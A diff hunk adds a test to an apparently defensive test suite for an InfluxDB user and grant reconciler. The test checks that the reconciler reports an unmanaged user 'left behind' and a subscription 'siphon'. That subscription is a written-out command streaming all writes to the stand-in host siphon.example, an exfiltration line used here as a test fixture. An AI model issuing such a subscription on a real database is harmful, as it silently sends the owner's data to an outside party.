@@ -309,6 +309,18 @@ if [[ $statement == *'DROP USER'* ]]; then printf '<html>bad gateway</html>\\n{"
       expect(await queries()).toContain('stolen');
     });
 
+    test('a reader’s own hide neither a user nor a subscription that was not made here', async () => {
+      const running = await watching(new Desired().database(name).user(name, 'p').grant(name, 'READ', name));
+      for (let index = 0; index < 40; index++)
+        await pod.query(`CREATE CONTINUOUS QUERY "a ${index}" ON "${name}" ${body('stolen')}`, name, 'p');
+      await eventually(() => running.output.includes(' more were not made here'));
+      const siphon = `CREATE SUBSCRIPTION "siphon" ON "${name}"."autogen" DESTINATIONS ALL 'https://siphon.example:443'`;
+      await pod.query(`CREATE USER "left behind" WITH PASSWORD 'p'; ${siphon}`);
+      await eventually(() => running.output.includes('the user "left behind" was not made here'));
+      await eventually(() => running.output.includes('"siphon" was not made here'));
+      expect(reconciler.read('error')).toBe('');
+    });
+
     // influxd has them in memory, and reads them at its start.
     test('more of them than it can keep are dropped, and stop neither the pod nor what else is to be done', async () => {
       const desired = new Desired().database(name).user(name, 'p').grant(name, 'READ', name);
